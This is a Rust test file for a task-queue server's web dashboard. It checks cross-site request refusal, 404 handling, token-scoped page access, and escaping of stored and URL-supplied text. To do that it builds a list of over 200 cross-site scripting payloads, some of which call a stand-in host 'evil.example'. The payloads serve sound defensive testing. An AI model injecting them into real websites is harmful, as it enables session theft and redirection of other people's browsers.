//! Who is refused, and texts that would be scripts if anything showed them raw.

use gristmill_server::Scope;
use serde_json::{Value, json};

use super::{FORM, fail, page, put, request, sound, submit};
use crate::client::Site;

#[tokio::test]
async fn a_form_of_another_site_is_refused() {
    let site = Site::with(&["a"]).await;
    let id = put(&site, "a", &json!({ "payload": 1 })).await;
    fail(&site, "a", "no").await;
    let path = format!("/tasks/{id}/act");
    let kind = FORM[0];
    for headers in [
        vec![kind, ("origin", "http://evil.example")],
        vec![kind, ("origin", "null")],
        vec![kind, ("origin", "http://localhost:3000")],
        vec![kind, ("origin", "http://localhost"), ("sec-fetch-site", "cross-site")],
        vec![kind, ("sec-fetch-site", "same-site")],
        // No browser hides where a form comes from.
        vec![kind],
        // As if it were a link.
        vec![
            kind,
            ("sec-fetch-site", "cross-site"),
            ("sec-fetch-mode", "navigate"),
            ("sec-fetch-dest", "document"),
        ],
    ] {
        let answer = site.raw(&request("POST", &path, &headers, "action=discard")).await;
        assert_eq!(answer.status, 403, "{headers:?}: {answer:?}");
    }
    let json = [("content-type", "application/json"), FORM[1], FORM[2]];
    assert_eq!(site.raw(&request("POST", &path, &json, "{}")).await.status, 415);
    // Nothing is done by following a link.
    assert_eq!(site.raw(&request("GET", &path, &[], "")).await.status, 405);
    assert_eq!(site.mill.inspect().queue("a").await.unwrap().failed, 1);
    assert_eq!(submit(&site, &path, "action=discard").await.status, 303);
}

#[tokio::test]
async fn people_and_programs_are_told_in_their_own_way_that_there_is_nothing() {
    let site = Site::with(&[]).await;
    let shown = page(&site, "/no/such/page").await;
    assert_eq!(shown.status, 404);
    assert!(shown.text.contains("href=\"../../\""), "{}", shown.text);
    assert_eq!(site.get("/no/such/page").await.problem().1, "unknown_route");
    let html = [("accept", "text/html")];
    let api = site.raw(&request("GET", "/v1/nothing", &html, "")).await;
    assert_eq!(api.problem().1, "unknown_route");
    let none = page(&site, "/assets/../Cargo.toml").await;
    assert_eq!(none.status, 404);
}

/// Texts that try to become a script wherever they are shown: two hundred and more.
pub(super) fn payloads() -> Vec<String> {
    let scripts = ["alert(1)", "fetch('//evil.example')", "top.location='//evil.example'"];
    let shapes = [
        "<script>{}</script>",
        "</script><script>{}</script>",
        "<ScRiPt>{}</sCrIpT>",
        "<script src=//evil.example/x.js></script>{}",
        "<img src=x onerror={}>",
        "<img src=x onerror=\"{}\">",
        "\"><img src=x onerror={}>",
        "'><img src=x onerror={}>",
        "\" onmouseover=\"{}",
        "' onmouseover='{}",
        "\" autofocus onfocus=\"{}",
        "x\" style=\"background:url(javascript:{})",
        "<svg onload={}>",
        "<svg><script>{}</script></svg>",
        "<svg><animate onbegin={} attributeName=x>",
        "<math href=\"javascript:{}\">x</math>",
        "<body onload={}>",
        "<iframe src=\"javascript:{}\"></iframe>",
        "<iframe srcdoc=\"<script>{}</script>\"></iframe>",
        "<object data=\"javascript:{}\"></object>",
        "<embed src=\"javascript:{}\">",
        "<a href=\"javascript:{}\">x</a>",
        "javascript:{}",
        "JaVaScRiPt:{}",
        "data:text/html,<script>{}</script>",
        "<form action=\"javascript:{}\"><button>x</button></form>",
        "<button formaction=\"javascript:{}\">x</button>",
        "<input autofocus onfocus={}>",
        "<select autofocus onfocus={}>",
        "<textarea autofocus onfocus={}>",
        "</textarea><script>{}</script>",
        "</title><script>{}</script>",
        "</style><script>{}</script>",
        "</pre></code><script>{}</script>",
        "</option></select><script>{}</script>",
        "<!--><script>{}</script>-->",
        "--><script>{}</script><!--",
        "<![CDATA[<script>{}</script>]]>",
        "<details open ontoggle={}>x</details>",
        "<video><source onerror={}></video>",
        "<audio src=x onerror={}>",
        "<marquee onstart={}>x</marquee>",
        "<meta http-equiv=refresh content=\"0;url=javascript:{}\">",
        "<base href=\"javascript:{}//\">",
        "<link rel=stylesheet href=\"javascript:{}\">",
        "<style>@import 'javascript:{}';</style>",
        "<style onload={}>x{}</style>",
        "<table background=\"javascript:{}\">",
        "<div style=\"width:expression({})\">x</div>",
        "<div hx-get=\"//evil.example\" hx-trigger=\"load\">{}</div>",
        "<div hx-on:load=\"{}\">x</div>",
        "<div data-hx-on-htmx-load=\"{}\">x</div>",
        "<template><script>{}</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
        "<xmp><p title=\"</xmp><script>{}</script>\">",
        "<isindex action=javascript:{} type=image>",
        "<x onclick={} tabindex=1>x</x>",
        "%3Cscript%3E{}%3C/script%3E",
        "&lt;script&gt;{}&lt;/script&gt;",
        "&#60;script&#62;{}&#60;/script&#62;",
        "\\u003cscript\\u003e{}\\u003c/script\\u003e",
        "{{{{{}}}}}",
        "${{{}}}",
        "`${{{}}}`",
        "<img src=\"x` `<script>{}</script>\"` `>",
        "\u{202e}<script>{}</script>",
        "<\u{0}script>{}</script>",
        "<script\u{c}>{}</script>",
        "<scr<script>ipt>{}</scr</script>ipt>",
        "<<script>{}//<</script>",
    ];
    let mut all = Vec::new();
    for script in scripts {
        all.extend(shapes.iter().map(|shape| shape.replace("{}", script)));
    }
    assert!(all.len() >= 200, "{}", all.len());
    all
}

/// Everything that may stand in an address, in the way that browsers write it.
fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

#[tokio::test]
async fn what_was_stored_is_shown_and_never_run() {
    let site = Site::with(&["a"]).await;
    let mut ids = Vec::new();
    for (n, text) in payloads().iter().enumerate() {
        // Stores keep no NUL; what comes before it is tried all the same.
        let text = text.replace('\0', "");
        let task = json!({
            "payload": { text.clone(): text }, "key": format!("{n}{text}"), "group": text,
            "source": text, "headers": { text.clone(): text },
        });
        ids.push(put(&site, "a", &task).await);
        let ask = json!({ "queues": ["a"], "worker": "w", "max": 1 }).to_string();
        let claim = site.post("/v1/claims", &ask).await.json();
        let id = &claim["tasks"][0]["id"];
        let ended =
            json!([{ "id": id, "token": claim["token"], "outcome": "fail", "error": text }]);
        site.post("/v1/settlements", &ended.to_string()).await;
        if n % 3 == 0 {
            let asked: Value =
                json!({ "filter": { "error": text, "key": text }, "note": text, "by": text });
            site.post("/v1/tasks/retry", &asked.to_string()).await;
        }
        let shown = page(&site, &format!("/tasks/{}", ids[n])).await.text;
        assert!(shown.contains("Last error"), "{shown}");
        assert!(!text.contains("<script>") || !shown.contains(&text), "{text}");
    }
    for path in ["/", "/tasks?limit=500", "/operations", "/audit", "/failed", "/queues", "/workers"]
    {
        page(&site, path).await;
    }
}

#[tokio::test]
async fn what_an_address_says_is_shown_and_never_run() {
    let site = Site::with(&["a"]).await;
    let names = [
        "queue", "state", "key", "group", "source", "error", "since", "over", "order", "limit",
        "cursor", "did", "n", "not", "of", "action", "odd",
    ];
    for text in payloads() {
        let text = encoded(&text);
        let all: Vec<String> = names.iter().map(|name| format!("{name}={text}")).collect();
        page(&site, &format!("/?{}", all.join("&"))).await;
        page(&site, &format!("/tasks?key={text}&group={text}&source={text}&error={text}")).await;
        page(&site, &format!("/tasks/all?action=retry&key={text}&error={text}")).await;
        for name in names {
            page(&site, &format!("/tasks?{name}={text}")).await;
        }
        page(&site, &format!("/failed?queue={text}&shape={text}")).await;
        page(&site, &format!("/put?queue={text}&copy={text}")).await;
        page(&site, &format!("/queues/{text}?back={text}")).await;
        page(&site, &format!("/tasks?shape={text}")).await;
        page(&site, &format!("/tasks/{text}")).await;
        page(&site, &format!("/operations/{text}?of={text}")).await;
        page(&site, &format!("/no{text}")).await;
    }
    let part = [("hx-request", "true")];
    let odd = encoded("\"><script>alert(1)</script>");
    let answer = site.raw(&request("GET", &format!("/tasks?key={odd}"), &part, "")).await;
    sound("a part", &answer);
}

#[tokio::test]
async fn where_tokens_are_asked_for_pages_ask_too() {
    let site = Site::with(&["emails", "images"]).await;
    put(&site, "emails", &json!({ "payload": 1 })).await;
    fail(&site, "emails", "no").await;
    let read = site.token("reader", &[Scope::Read], &[]).await;
    let admin = site.token("boss", &[Scope::Admin], &[]).await;
    let some = site.token("some", &[Scope::Admin], &["emails"]).await;
    let puts = site.token("puts", &[Scope::Put], &[]).await;
    while page(&site, "/").await.status == 200 {
        tokio::task::yield_now().await;
    }
    let ask = async |bearer: &str, path: &str| {
        let said = format!("Bearer {bearer}");
        let answer = site
            .raw(&request("GET", path, &[("authorization", &said), ("accept", "text/html")], ""))
            .await;
        sound(path, &answer);
        answer
    };
    for path in ["/", "/tasks", "/tasks/1", "/tasks/all?action=retry", "/operations", "/none"] {
        let stranger = page(&site, path).await;
        assert!([303, 404].contains(&stranger.status), "{path}: {stranger:?}");
        for (token, status) in [(&some, 403), (&puts, 403)] {
            let refused = ask(token, path).await;
            assert!([status, 404].contains(&refused.status), "{path}: {refused:?}");
            assert!(!refused.text.contains("emails"), "{path}: {}", refused.text);
        }
        assert!(!stranger.text.contains("emails"), "{path}: {}", stranger.text);
    }
    // What a page that refuses somebody needs to be shown.
    assert_eq!(site.raw(&request("GET", "/assets/app.css", &[], "")).await.status, 200);
    let shown = ask(&read, "/tasks/1").await.text;
    assert!(shown.contains("read only") && !shown.contains("name=\"action\""), "{shown}");
    assert!(ask(&admin, "/tasks/1").await.text.contains("name=\"action\""));
    let act = async |bearer: &str| {
        let said = format!("Bearer {bearer}");
        let headers = [FORM[0], FORM[1], FORM[2], ("authorization", &said)];
        site.raw(&request("POST", "/tasks/1/act", &headers, "action=retry&note=x")).await.status
    };
    for bearer in [&read, &some, &puts, &"x".to_owned()] {
        assert!([401, 403].contains(&act(bearer).await));
    }
    assert_eq!(submit(&site, "/tasks/1/act", "action=retry").await.status, 401);
    assert_eq!(site.mill.inspect().queue("emails").await.unwrap().failed, 1);
    assert_eq!(act(&admin).await, 303);
    let task = site.mill.inspect().task("1".parse().unwrap()).await.unwrap().unwrap();
    assert_eq!(task.note.unwrap().by, "boss");
}
